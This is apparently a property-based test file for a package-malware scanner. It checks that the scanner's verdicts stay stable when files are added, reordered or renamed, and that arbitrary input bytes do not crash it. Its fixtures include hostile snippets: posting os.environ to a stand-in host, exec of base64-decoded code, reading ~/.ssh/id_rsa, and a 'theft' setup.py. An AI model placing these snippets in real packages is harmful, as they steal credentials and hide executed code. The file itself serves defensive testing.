"""More files never soften, names and order change nothing, and no bytes make the evaluator fail."""

import sys
from collections.abc import Mapping, Sequence
from pathlib import Path

from engine_flows import program_of
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from ostiary.core.scale import Decision
from ostiary.core.verdict import Verdict
from ostiary.evidence.artifact import examine_members, of_type
from ostiary.formats.archive.member import Member
from ostiary.program.flow import Flow
from ostiary.program.model import Program

sys.path.insert(0, str(Path(__file__).parents[2] / "efficacy"))
sys.path.insert(0, str(Path(__file__).parents[2] / "checks"))
sys.path.insert(0, str(Path(__file__).parents[2] / "fuzz"))
from fuzz_programs import JAVASCRIPT, PYTHON
from packages import decide

Tree = Mapping[str, str]
HEAD = "import base64, os, requests, subprocess\nfrom . import a, b\n"
BODIES = (
    "",
    "VALUE = 1\n",
    "def take():\n    return dict(os.environ)\n",
    "def go(x):\n    requests.post('https://c.example.invalid', json=x)\n",
    "b.go(a.take())\n",
    "exec(base64.b64decode('cHJpbnQoMSk='))\n",
    "subprocess.run(['make'])\n",
    "while True:\n    VALUE = VALUE.join([VALUE, VALUE])\n",
    "open('x.txt', 'w').write(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
    "def broken(:\n   }}\n",
)
NAMES = (
    "sample/__init__.py",
    "sample/a.py",
    "sample/b.py",
    "setup.py",
    "sample/tests/test_a.py",
    "run.py",
)
programs = st.lists(st.sampled_from(BODIES), max_size=3).map(lambda some: HEAD + "".join(some))
trees = st.dictionaries(st.sampled_from(NAMES), programs, max_size=4)
few = settings(
    max_examples=40, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow]
)
tokens = st.lists(
    st.sampled_from([*PYTHON, *JAVASCRIPT, b" ", b"\n", b"\n  ", b"x", b"1", b"(", b")"]),
    max_size=40,
)
anything = st.one_of(
    st.binary(max_size=200), st.text(max_size=200).map(str.encode), tokens.map(b"".join)
)


def judged(files: Tree) -> Verdict:
    whole = {"PKG-INFO": "Metadata-Version: 2.1\nName: sample\nVersion: 1.0\n", **files}
    members = [(f"sample-1.0/{name}", body.encode()) for name, body in whole.items()]
    return decide("sdist", members)


def flows(files: Mapping[str, bytes], order: Sequence[str]) -> tuple[Flow, ...]:
    names = [*(one for one in order if one in files), *(one for one in files if one not in order)]
    members = [Member(f"sample-1.0/{name}", files[name], False, 0) for name in names]
    found = next(of_type(examine_members(members, "sample-1.0.tar.gz", "0" * 64, 1), Program))
    assert isinstance(found, Program)
    return found.flows


@few
@given(trees, st.sampled_from(NAMES), programs)
def test_one_more_file_never_softens(files: Tree, name: str, body: str) -> None:
    less = {key: one for key, one in files.items() if key != name}
    before, after = judged(less), judged({**less, name: body})
    assert after.decision >= before.decision
    assert after.score >= before.score


@few
@given(trees, st.permutations(NAMES))
def test_the_order_of_files_changes_no_flow(files: Tree, order: Sequence[str]) -> None:
    whole = {name: body.encode() for name, body in files.items()}
    assert flows(whole, order) == flows(whole, NAMES) == flows(whole, NAMES)


@few
@given(trees, programs, st.text("cdefgh", min_size=5, max_size=9))
def test_the_name_of_a_file_that_nothing_names_changes_nothing(
    files: Tree, body: str, name: str
) -> None:
    def of(path: str) -> set[Flow]:
        found = flows(
            {**{key: one.encode() for key, one in files.items()}, path: body.encode()}, NAMES
        )
        return {
            replace(
                one,
                at=replace(one.at, path=one.at.path.replace(name, "other")),
                carries=tuple(
                    replace(row, spot=replace(row.spot, path=row.spot.path.replace(name, "other")))
                    for row in one.carries
                ),
                layers=tuple(row.replace(name, "other") for row in one.layers),
            )
            for one in found
        }

    assert of("sample/other.py") == of(f"sample/{name}.py")


@settings(few, max_examples=300)
@given(
    anything,
    st.sampled_from([("sdist", "setup.py"), ("wheel", "sample/__init__.py"), ("npm", "index.js")]),
)
def test_no_bytes_make_it_fail(data: bytes, where: tuple[str, str]) -> None:
    form, path = where
    root = {"sdist": "sample-1.0/", "wheel": "", "npm": "package/"}[form]
    name = {
        "sdist": "sample-1.0.tar.gz",
        "wheel": "sample-1.0-py3-none-any.whl",
        "npm": "sample-1.0.tgz",
    }[form]
    members = [Member(root + path, data, False, 0)]
    found = next(of_type(examine_members(members, name, "0" * 64, 1), Program))
    assert isinstance(found, Program)


def test_what_is_compared_above_is_not_always_the_same() -> None:
    theft = {
        "setup.py": "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n"
    }
    assert judged({"sample/a.py": "VALUE = 1\n"}).decision is Decision.ALLOW
    assert judged(theft).decision > Decision.ALLOW
    assert program_of("sdist", theft).flows
